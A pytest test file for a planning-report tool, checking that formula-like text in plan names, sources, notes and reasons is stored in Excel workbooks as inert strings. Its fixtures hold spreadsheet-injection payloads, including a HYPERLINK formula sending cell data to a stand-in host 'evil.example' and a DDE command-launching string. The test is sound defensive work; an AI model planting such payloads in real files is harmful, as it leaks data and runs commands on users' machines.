"""Every report workbook, opened with openpyxl: no formula cells that came from data.

A plan name, a source, a note or an adjustment reason that starts like a formula is written as a
string cell holding the exact text (planwatch.inert_cells); numbers stay numbers.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from planwatch.model import Plan
from planwatch.observe import import_file
from planwatch.report import build_reports
from planwatch.store import open_store

HAND_PLAN = Path(__file__).parent.parent / "store" / "hand_plan.json"
REGIONS = [("嘉兴市", None, "city"), ("南湖区", "嘉兴市", "county"), ("海宁市", "嘉兴市", "county")]
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
NAME = "=1+2"
REASON = "@SUM(1+1)"
DOCUMENT = "+调整方案"
NOTE = "-3.5%"
SOURCES = [HYPERLINK, DDE, "-source", "#N/A"]


def _hostile_plan() -> Plan:
    """The hand plan (rows of the Jiaxing 表2) with one indicator named like a formula."""
    plan = Plan.model_validate_json(HAND_PLAN.read_text(encoding="utf-8"))
    plan.indicators[2].name = NAME
    return plan


def _hostile_observations(path: Path) -> Path:
    """Real GDP figures of the hand plan whose sources and notes are hostile."""
    rows = [["indicator", "region", "year", "value", "unit", "source", "note"]]
    for n, (year, value) in enumerate([(2021, 6388.38), (2022, 6739.45), (2023, 7062.5), (2024, 7569.53)]):
        rows.append(["T2-1", "嘉兴市", str(year), str(value), "亿元", SOURCES[n], NOTE if n else DDE])
    rows.append(["T2-3", "嘉兴市", "2022", "72.4", "%", HYPERLINK, REASON])
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


@pytest.fixture
def hostile_store(tmp_path):
    store = open_store(f"sqlite:///{tmp_path / 'store.db'}")
    store.init()
    store.load_plan(_hostile_plan(), source="hand")
    store.add_regions(REGIONS)
    import_file(store, _hostile_observations(tmp_path / "hostile.csv"))
    store.add_adjustment("T2-9", new_value=4200, reason=REASON, document=DOCUMENT, date="2023-06-30")
    yield store
    store.dispose()


@pytest.mark.parametrize(("kind", "year"), [("annual", 2024), ("midterm", 2023), ("final", 2025)])
def test_report_workbook_has_no_formula_and_keeps_text_exact(hostile_store, tmp_path, kind, year):
    [path] = build_reports(hostile_store, kind, year, tmp_path / kind, ["xlsx"])
    cells = [c for ws in load_workbook(path).worksheets for row in ws.iter_rows() for c in row]
    assert not [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type in ("f", "e")]
    strings = {c.value for c in cells if c.data_type == "s"}
    assert {NAME, REASON, DOCUMENT, NOTE, DDE, HYPERLINK, "#N/A", "-source"} <= strings
    numbers = {c.value for c in cells if c.data_type == "n"}
    assert 5509.5 in numbers and 2022 in numbers
